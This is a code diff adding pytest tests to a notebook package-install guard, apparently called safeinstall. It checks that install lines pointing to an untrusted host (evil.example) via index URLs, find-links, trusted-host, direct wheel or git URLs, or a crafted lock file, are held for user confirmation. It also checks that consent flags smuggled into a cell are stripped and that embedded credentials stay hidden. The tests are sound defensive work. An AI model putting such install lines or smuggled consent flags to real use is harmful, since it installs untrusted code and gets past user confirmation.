@@ -17,6 +17,8 @@ from safeinstall.agent.older import environment_name
 from safeinstall.errors import SafeInstallError
 from safeinstall.findings import Severity
 from safeinstall.magics import SafeInstall
+from safeinstall.render import MIME, Displayed, outcome_message
+from test_render import CASES
 
 HOME = Path(agent.__file__).parent
 OLD = ("__init__.py", "loader.py", "older.py")
@@ -118,6 +120,113 @@ def test_the_imports_of_cells_are_compared_with_the_environment() -> None:
     assert found["present"] == ["json", "packaging"]
     missing = [(item["module"], item["cell"], item["distribution"]) for item in found["missing"]]
     assert missing == [("sklearn", "b", "scikit-learn")]
+
+
+PLACES = {
+    "-i https://evil.example/simple pandas": "--index-url https://evil.example/simple",
+    "--index-url=https://evil.example/simple pandas": "--index-url https://evil.example/simple",
+    f"pandas{' ' * 300}-i https://evil.example/simple": "--index-url https://evil.example/simple",
+    "--extra-index-url https://evil.example/simple pandas": "--extra-index-url https://evil",
+    "pandas --extra-index-url http://127.0.0.1:9/s": "--extra-index-url http://127.0.0.1:9/s",
+    "-f https://evil.example/wheels pandas": "--find-links https://evil.example/wheels",
+    "--no-index -f ./wheels pandas": "--no-index",
+    "pandas --find-links ./wheels": "--find-links ./wheels",
+    "--trusted-host evil.example pandas": "--trusted-host evil.example",
+    "https://evil.example/pandas-9-py3-none-any.whl": "https://evil.example/pandas-9-py3",
+    "'pandas @ https://evil.example/p.whl'": "pandas @ https://evil.example/p.whl",
+    "https://evil.example/pandas-9.tar.gz": "https://evil.example/pandas-9.tar.gz",
+    "git+https://evil.example/pandas": "git+https://evil.example/pandas",
+    "hg+https://evil.example/pandas": "hg+https://evil.example/pandas",
+    "pandas git+https://evil.example/pandas@main#egg=numpy": "git+https://evil.example/pandas@main",
+    "-e git+https://evil.example/pandas#egg=pandas": "--editable git+https://evil.example/pandas",
+    "'pandas[all] @ git+ssh://git@evil.example/x'": "git+ssh://git@evil.example/x",
+    "./project": "./project",
+    "-e ./project": "--editable",
+    "./evil-1.0-py3-none-any.whl": "./evil-1.0-py3-none-any.whl",
+    "-r pylock.toml": "--requirement ./pylock.toml",
+}
+"""What may stand in a cell, and what of it is said before anything is done."""
+
+
+@pytest.fixture
+def beside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The folder of a notebook, with what its cells name."""
+    monkeypatch.chdir(tmp_path)
+    for name in ("project", "wheels"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "project" / "pyproject.toml").write_text('[project]\nname="p"\nversion="1"\n')
+    (tmp_path / "evil-1.0-py3-none-any.whl").write_bytes(b"PK\x05\x06" + bytes(18))
+    entry = '[[packages]]\nname = "x"\nversion = "1"\n[[packages.wheels]]\nname = "x.whl"\n'
+    entry = entry.replace("x.whl", "x-1-py3-none-any.whl")
+    entry += f'url = "https://evil.example/x-1-py3-none-any.whl"\nhashes.sha256 = "{"0" * 64}"\n'
+    lock = f'lock-version = "1.0"\ncreated-by = "evil"\n{entry}'
+    (tmp_path / "pylock.toml").write_text(lock)
+    return tmp_path
+
+
+@pytest.mark.parametrize("line", PLACES)
+def test_a_line_that_nobody_typed_is_asked_about_before_it_says_where_packages_come_from(
+    line: str, beside: Path
+) -> None:
+    for method in ("install", "new_environment"):
+        result = ended(value(method, line=line, taken_over=True, path="new"))["result"]
+        assert [found["code"] for found in result["outcome"]["findings"]] == ["not-typed"]
+        assert result["outcome"]["status"] == "needs-confirmation"
+        assert PLACES[line] in result["message"]["headline"]
+        assert result["message"]["lines"] == [result["outcome"]["asked"]]
+        assert result["confirm"] == {"taken_over": False}
+    assert not (beside / "new").exists()
+
+
+@pytest.mark.parametrize("line", PLACES)
+def test_a_button_shows_all_of_the_line_that_it_takes_from_a_cell(line: str, beside: Path) -> None:
+    (found,) = wrong(f"!/no/such/python -m pip install {line}")
+    (button,) = found["actions"]
+    assert button["params"]["taken_over"] is True
+    assert PLACES[line] in button["line"]
+    assert button["line"] == found["instead"] == f"%safeinstall {button['params']['line']}"
+
+
+@pytest.mark.parametrize(
+    "consent",
+    [
+        *("--yes", "-y", "--allow-build pandas", "--allow-direct", "--allow-file-options"),
+        *("--allow-conflicts", "--allow-kernel-change", "--allow-stdlib-name"),
+    ],
+)
+def test_a_cell_agrees_to_nothing_in_the_place_of_who_clicks(consent: str) -> None:
+    (found,) = wrong(f"!/no/such/python -m pip install --pre {consent} pandas")
+    (button,) = found["actions"]
+    assert button["params"]["line"] == "--pre pandas"
+    assert found["instead"] == "%safeinstall --pre pandas"
+    result = ended(value("install", line=f"{consent} pandas", taken_over=True))["result"]
+    assert [found["code"] for found in result["outcome"]["findings"]] == ["not-typed"]
+
+
+def test_a_secret_in_a_cell_is_run_and_not_shown() -> None:
+    (found,) = wrong("!/no/such/pip install -i https://me:s3cr3t@h.example/s pandas")
+    (button,) = found["actions"]
+    assert "s3cr3t" in button["params"].pop("line")
+    assert "s3cr3t" not in json.dumps(found)
+    line = "--index-url https://me:s3cr3t@h.example/s pandas"
+    job = ended(value("install", line=line, taken_over=True))
+    assert "s3cr3t" not in json.dumps(job)
+
+
+def test_only_what_this_process_has_shown_has_buttons() -> None:
+    assert value("outcome", id="0" * 32) == {"made": None}
+    assert value("outcome") == value("outcome", id=[{}]) == {"made": None}
+    shown = Displayed(CASES["done"], outcome_message(CASES["done"]))
+    bundle = shown._repr_mimebundle_()[MIME]
+    assert bundle["id"] in value("facts")["outcomes"]
+    ways = {"restart": bundle["restart"], "transaction": bundle["transaction"]}
+    assert value("outcome", id=bundle["id"]) == {"made": ways}
+    assert shown._repr_mimebundle_()[MIME]["id"] == bundle["id"]
+
+
+def wrong(source: str) -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = value("cells", cells=[{"id": "a", "source": source}])["wrong"]
+    return found
 
 
 @pytest.mark.parametrize(
